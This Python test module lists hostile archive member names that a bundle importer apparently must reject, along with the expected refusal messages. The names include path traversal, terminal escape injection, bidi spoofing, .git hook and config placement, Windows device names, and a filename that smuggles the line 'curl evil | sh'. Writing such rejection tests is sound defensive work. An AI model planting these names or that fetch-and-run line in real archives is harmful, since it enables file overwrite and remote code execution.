"""Rule 2: what a member may be called, and where it may lie."""

from __future__ import annotations

from tests.core.storage.archive_bytes import END, gz
from tests.hostile.bundles import (
    Case,
    Files,
    case,
    drop,
    extra,
    listed,
    record,
    records,
    write,
)

_PARTS = "`.` or `..` part"
_SIGNS = r'one of \ : * ? " < > |'
_HIDDEN = "a control or format character"
_FORM = "not in Unicode form NFC"
_DEVICE = "Windows reserves for a device"
_GIT = "a git repository of its own"
_ANEW = "bytecode or a virtual environment"
_SAME = "the same as"
_PLACE = "has no place in a bundle"
_DEV = "dev_nodes/my-dev/"

# name: (as the refusal shows it, the rule)
_NAMES: dict[str | bytes, tuple[str, str]] = {
    "../x": ("../x", _PARTS),
    "../../../../../../../../tmp/comfydock-hostile": ("tmp/comfydock-hostile", _PARTS),
    "/tmp/comfydock-hostile": ("/tmp/comfydock-hostile", "absolute path"),
    f"{_DEV}../../../x": ("my-dev/../../../x", _PARTS),
    f"{_DEV}./x": ("my-dev/./x", _PARTS),
    f"{_DEV}/x": ("my-dev//x", "an empty part"),
    f"{_DEV}a\\..\\..\\x": ("..", _SIGNS),
    f"{_DEV}C:x": ("C:x", _SIGNS),
    f"{_DEV}x.py:stream": ("x.py:stream", _SIGNS),
    f"{_DEV}a*b": ("a*b", _SIGNS),
    f"{_DEV}a|b": ("a|b", _SIGNS),
    f"{_DEV}a\x1b[2Jb": (r"a\x1b[2Jb", _HIDDEN),
    f"{_DEV}a\x1b]0;title\x07": (r"a\x1b]0;title\x07", _HIDDEN),
    f"{_DEV}a\x9bb": (r"a\x9bb", _HIDDEN),
    f"{_DEV}a\nhint: curl evil | sh": (r"a\nhint: curl evil", _HIDDEN),
    f"{_DEV}a\x7f": (r"a\x7f", _HIDDEN),
    f"{_DEV}a\u202egnp.py": (r"a\u202egnp.py", _HIDDEN),
    f"{_DEV}a\u200bb": (r"a\u200bb", _HIDDEN),
    f"{_DEV}a\u2028b": (r"a\u2028b", _HIDDEN),
    f"{_DEV}.g\u200cit/config": (r".g\u200cit/config", _HIDDEN),
    _DEV.encode() + b"\xff\xfe": (r"\udcff\udcfe", "not UTF-8"),
    _DEV.encode() + b"\xc0\xae\xc0\xae/x": (r"\udcc0\udcae", "not UTF-8"),
    _DEV.encode() + b"\xed\xa0\x80": (r"\udced", "not UTF-8"),
    f"{_DEV}e\u0301.py": ("my-dev/e\u0301.py", _FORM),
    f"{_DEV}~x": ("~x", "begins with `~` or `-`"),
    "-rf": ("-rf", "begins with `~` or `-`"),
    f"{_DEV}CON": ("CON", _DEVICE),
    f"{_DEV}aux.py": ("aux.py", _DEVICE),
    f"{_DEV}Lpt1 .txt": ("Lpt1 .txt", _DEVICE),
    f"{_DEV}com\u00b9": ("com\u00b9", _DEVICE),
    f"{_DEV}x.": ("`dev_nodes/my-dev/x.`", "ends with a dot or a space"),
    f"{_DEV}x ": ("`dev_nodes/my-dev/x `", "ends with a dot or a space"),
    _DEV + "x/" * 15 + "x" * 500: ("xxx…", "more than 512 bytes"),
    _DEV + "\u00e9" * 128: ("\u00e9\u00e9\u00e9", "a part of more than 255 bytes"),
    _DEV + "x/" * 31 + "x": ("x/x/x", "more than 32 levels deep"),
    f"{_DEV}.git/config": (".git/config", _GIT),
    f"{_DEV}.git": (".git`", _GIT),
    f"{_DEV}.GIT/hooks/post-checkout": (".GIT/hooks", _GIT),
    f"{_DEV}\uff0egit/config": ("\uff0egit/config", _GIT),
    f"{_DEV}git~1/config": ("git~1/config", _GIT),
    ".git/config": (".git/config", _GIT),
    "workflows/.git/x.json": ("workflows/.git/x.json", _GIT),
    f"{_DEV}.venv/bin/python": (".venv/bin/python", _ANEW),
    f"{_DEV}__pycache__/x.py": ("__pycache__/x.py", _ANEW),
    f"{_DEV}x.PYC": ("x.PYC", _ANEW),
    "PyProject.toml": ("PyProject.toml", _SAME),
    "dev_nodes/MY-DEV/x.py": ("dev_nodes/MY-DEV/x.py", _SAME),
    f"{_DEV}__INIT__.py": ("__INIT__.py", _SAME),
    f"{_DEV}requirement\u017f.txt": ("requirement\u017f.txt", _SAME),
    f"{_DEV}__init__.py/x": ("__init__.py/x", "has the file"),
    "dev_nodes/my-dev": ("`dev_nodes/my-dev`", "both a file and a folder"),
    "pyproject.toml": ("`pyproject.toml`", "is there twice"),
}

_PLACES = (
    *("uv.toml", ".env", ".netrc", "pip.conf", "sitecustomize.py", ".gitattributes", ".gitmodules"),
    *("import.json", "complete", ".comfydock/complete", ".cec/pyproject.toml", "state/done.json"),
    *("custom_nodes/x/__init__.py", "ComfyUI/main.py", "output/x.png", "journal.json"),
    *("workflows/x.py", "workflows/x.json/x", "dev_nodes/x.py", "workflows.json"),
    *("inputs/x.pkl", "inputs/x.npy", "inputs/x.npz", "inputs/x.pt", "inputs/x.svg"),
    *("inputs/x.html", "inputs/x.py", "inputs/x", "inputs/sub/x.exe", "inputs/.png.sh"),
    *("models/x.exe", "models/loras/x.py", "models/x.safetensors.exe", "models/loras/x"),
    *("models/x.npy", "models/config.json", "models", "inputs", "Models/x.safetensors"),
)

_MORE = {
    "models: out of their folder": ("models/../x.safetensors", "models/../x", _PARTS),
    "models: an absolute path": ("models//etc/x.safetensors", "models//etc", "an empty part"),
    "models: a device": ("models/loras/NUL.safetensors", "NUL.safetensors", _DEVICE),
    "models: a home": ("models/~/x.safetensors", "models/~/x", "begins with `~` or `-`"),
    "inputs: out of their folder": ("inputs/../x.png", "inputs/../x.png", _PARTS),
    "inputs: hidden end": ("inputs/gpj.\u202eexe.png", r"gpj.\u202eexe", _HIDDEN),
    "inputs: a stream": ("inputs/x.png::$DATA.png", "$DATA", _SIGNS),
}


def _twin(name: str, other: str) -> Case:
    return extra(record(name, b"") + record(other, b""), other, _SAME)


def _named(name: str | bytes, shown: str, rule: str) -> Case:
    return extra(record(name, b"x"), shown, rule)


def _without(name: str) -> Case:
    return case(drop(name), f"`{name}`", "it has no")


def _unlisted(files: Files) -> bytes:
    return gz(records(listed(files)) + record(f"{_DEV}more.py", b"") + END)


NAMES: dict[str, Case] = {
    **{f"name {name!a}": _named(name, *why) for name, why in _NAMES.items()},
    **{what: _named(*why) for what, why in _MORE.items()},
    **{f"place {path}": case(write(path, "x"), f"`{path}`", _PLACE) for path in _PLACES},
    **{
        f"without {name}": _without(name)
        for name in ("pyproject.toml", "uv.lock", ".python-version", "manifest.json")
    },
    "twins: sharp s": _twin(f"{_DEV}stra\u00dfe.py", f"{_DEV}strasse.py"),
    "twins: a ligature": _twin(f"{_DEV}\ufb01le.py", f"{_DEV}file.py"),
    "twins: the sign for Kelvin": _twin(f"{_DEV}k.py", f"{_DEV}K.py"),
    "a member that is not listed": Case(
        make=_unlisted, named=f"`{_DEV}more.py`", rule="is not listed"
    ),
}
